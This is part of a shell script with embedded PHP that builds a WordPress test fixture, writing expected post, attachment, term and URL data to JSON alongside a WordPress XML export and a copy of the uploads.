	$counts['threaded_replies'] = (int) $GLOBALS['wpdb']->get_var($GLOBALS['wpdb']->prepare("SELECT COUNT(*) FROM {$GLOBALS['wpdb']->comments} WHERE comment_post_ID = %d AND comment_parent <> 0", $p->ID));
	$f = array('wp_id' => $p->ID, 'type' => $p->post_type, 'title' => $p->post_title, 'slug' => $p->post_name,
		'edition' => lang_of($p->ID), 'status' => $p->post_status, 'author' => get_userdata($p->post_author)->user_login,
		'date_gmt' => $p->post_date_gmt, 'modified_gmt' => $p->post_modified_gmt, 'sticky' => is_sticky($p->ID),
		'permalink' => rel(get_permalink($p)), 'public' => $p->post_status === 'publish', 'shortlink' => '/?p=' . $p->ID);
	if ($p->post_type === 'page') { $f['shortlink'] = '/?page_id=' . $p->ID; $f['parent'] = $p->post_parent; }
	if ($p->post_excerpt !== '') $f['excerpt'] = $p->post_excerpt;
	$f['categories'] = array_map('term_facts', wp_get_post_categories($p->ID, array('fields' => 'all')));
	$f['tags'] = array_map('term_facts', wp_get_post_tags($p->ID));
	$thumb = get_post_thumbnail_id($p);
	$f['featured_image'] = $thumb ? (int) $thumb : null;
	$f['attachments'] = array_map(function ($a) { return $a->ID; }, get_children(array('post_parent' => $p->ID, 'post_type' => 'attachment', 'orderby' => 'ID', 'order' => 'ASC')));
	$f['attachments'] = array_values($f['attachments']);
	$f['translations'] = translations($p->ID, 'post_translations');
	$f['comments'] = $counts;
	$posts[] = $f;
}
$atts = array();
foreach (get_posts(array('post_type' => 'attachment', 'post_status' => 'inherit', 'numberposts' => -1, 'orderby' => 'ID', 'order' => 'ASC')) as $a) {
	$meta = wp_get_attachment_metadata($a->ID);
	$file = get_post_meta($a->ID, '_wp_attached_file', true);
	$renditions = array();
	foreach ($meta['sizes'] as $size => $s) $renditions[$size] = dirname($file) . '/' . $s['file'];
	$atts[] = array('wp_id' => $a->ID, 'parent' => $a->post_parent, 'title' => $a->post_title, 'slug' => $a->post_name,
		'file' => $file, 'url' => rel(wp_get_attachment_url($a->ID)), 'renditions' => $renditions,
		'width' => $meta['width'], 'height' => $meta['height'], 'caption' => $a->post_excerpt,
		'alt' => get_post_meta($a->ID, '_wp_attachment_image_alt', true), 'credit' => $meta['image_meta']['credit'],
		'in_fixture' => $file !== $missing, 'page' => rel(get_attachment_link($a->ID)), 'shortlink' => '/?attachment_id=' . $a->ID);
}
$terms = array();
foreach (array('category', 'post_tag') as $tax) {
	foreach (get_terms(array('taxonomy' => $tax, 'hide_empty' => false, 'orderby' => 'term_id')) as $t) {
		$f = term_facts($t);
		$f['taxonomy'] = $tax;
		$f['count'] = $t->count;
		$f['translations'] = translations($t->term_id, 'term_translations');
		$terms[] = $f;
	}
}
$old = array();
foreach ($posts as $p) if ($p['public']) { $old[] = $p['permalink']; $old[] = $p['shortlink']; }
foreach ($terms as $t) if ($t['count'] > 0) $old[] = $t['path'];
foreach ($atts as $a) $old[] = $a['page'];
$expected = array(
	'generator' => 'scripts/wp-fixture.sh (WordPress ' . get_bloginfo('version') . ')',
	'site_url' => $home, 'language' => get_bloginfo('language'), 'timezone' => get_option('timezone_string'),
	'permalink_structure' => get_option('permalink_structure'),
	'authors' => array_map(function ($u) { return array('login' => $u->user_login, 'display_name' => $u->display_name, 'email' => $u->user_email); },
		get_users(array('orderby' => 'ID'))),
	'posts' => $posts, 'attachments' => $atts, 'terms' => $terms,
	'missing_uploads' => array($missing),
	'old_urls' => $old,
);
file_put_contents("$out/expected.json", json_encode($expected, JSON_PRETTY_PRINT | JSON_UNESCAPED_UNICODE | JSON_UNESCAPED_SLASHES) . "\n");
ob_start();
export_wp(array('content' => 'all'));
$xml = ob_get_clean();
file_put_contents("$out/export.xml", $xml);
echo "export: ", strlen($xml), " bytes, ", count($posts), " posts and pages, ", count($atts), " attachments, ", count($old), " old URLs\n";
PHP

echo "== WordPress: export"
rm -rf "$OUT.new"; mkdir -p "$OUT.new"
WPFIX_OUT="$OUT.new" php "$T/export.php"
# PHP 8.2 deprecations in WordPress 6.1's bundled Requests library are expected; anything else is shown.
if [ -s "$T/debug.log" ] && grep -v 'PHP Deprecated' "$T/debug.log" >&2; then echo "wp-fixture: WordPress logged the above" >&2; fi
xmllint --noout "$OUT.new/export.xml"

# The uploads the posts use (originals and renditions), except the one left out on purpose.
MISSING="$(cat "$T/missing.txt")"
cp -r "$T/wp-content/uploads" "$OUT.new/uploads"
rm -f "$OUT.new/uploads/${MISSING%.jpg}"{.jpg,-*x*.jpg}
rm -rf "$OUT" && mv "$OUT.new" "$OUT"
echo "== wrote $OUT: $(du -sh "$OUT" | cut -f1), $(find "$OUT/uploads" -type f | wc -l) upload files"
